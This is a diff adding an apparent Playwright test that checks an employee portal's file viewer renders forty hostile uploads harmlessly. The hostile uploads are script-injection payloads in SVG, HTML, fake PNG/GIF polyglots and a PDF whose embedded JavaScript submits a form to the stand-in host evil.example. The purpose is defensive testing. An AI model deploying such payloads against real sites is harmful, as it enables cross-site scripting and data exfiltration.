@@ -1,0 +1,71 @@
+import { expect, test } from '../fixtures/test.ts';
+import { dialog, openList, row } from '../words/lists.ts';
+
+test.use({ account: 'rosa' });
+
+const SCRIPT =
+  '<script>window.parent.harmed=true;window.harmed=true;localStorage.setItem("harmed","1")</script>';
+const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed=true">${SCRIPT}</svg>`;
+const HTML = `<!doctype html><body onload="window.harmed=true">${SCRIPT}<img src=x onerror="window.harmed=true">`;
+const PNG = '\x89PNG\r\n\x1a\n';
+const PDF_WITH_SCRIPT =
+  '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://evil.example"\\))>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>';
+
+const CONTENTS = [SVG, HTML, `${PNG}${HTML}`, `GIF89a${HTML}`, PDF_WITH_SCRIPT] as const;
+const NAMES = [
+  'page.html',
+  'page.htm',
+  'page.xhtml',
+  'drawing.svg',
+  'page.png',
+  'page.jpg',
+  'page.pdf',
+  'page.html.png',
+] as const;
+
+/** Forty files that would harm the portal if it let them act as pages: every content under every name. */
+const FILES = NAMES.flatMap((name, nameIndex) =>
+  CONTENTS.map((content, index) => ({
+    address: `/files/9${nameIndex}${index}/${nameIndex}${index}-${name}`,
+    content,
+  })),
+);
+
+test('FILE-04 FILE-11 FILE-12 forty hostile files do nothing', async ({ page, world }) => {
+  test.slow();
+  expect(FILES).toHaveLength(40);
+  await world.answer('listEmployees', [
+    {
+      id: 1,
+      first_name: 'Ana',
+      last_name: 'Ruiz',
+      email: 'a@example.com',
+      phone_number: '1',
+      SP_number: 'SP-1',
+      files: FILES.map(({ address }) => address),
+    },
+  ]);
+  for (const { address, content } of FILES) {
+    await page.route(`**${address}`, (route) =>
+      route.fulfill({ body: Buffer.from(content, 'latin1'), contentType: 'text/html' }),
+    );
+  }
+  page.on('dialog', () => expect(false, 'a file opened a dialog').toBe(true));
+  await openList(page, 'employees');
+  const buttons = row(page, 'Ana Ruiz').getByRole('button');
+  await expect(buttons).toHaveCount(40);
+  for (let index = 0; index < FILES.length; index += 1) {
+    await buttons.nth(index).click();
+    await expect(dialog(page).getByRole('button', { name: 'Download', exact: true })).toBeEnabled();
+    const shown = dialog(page).locator('img, iframe, p:text("Unsupported file type")').first();
+    await expect(shown).toBeVisible();
+    const addresses = await dialog(page)
+      .locator('img, iframe')
+      .evaluateAll((elements) => elements.map((one) => one.getAttribute('src')));
+    for (const address of addresses) expect(address).toMatch(/^blob:/);
+    await dialog(page).getByRole('button', { name: 'Close' }).click();
+  }
+  const harmed = await page.evaluate(() => 'harmed' in window || localStorage.getItem('harmed') !== null);
+  expect(harmed).toBe(false);
+  expect(page.context().pages()).toHaveLength(1);
+});
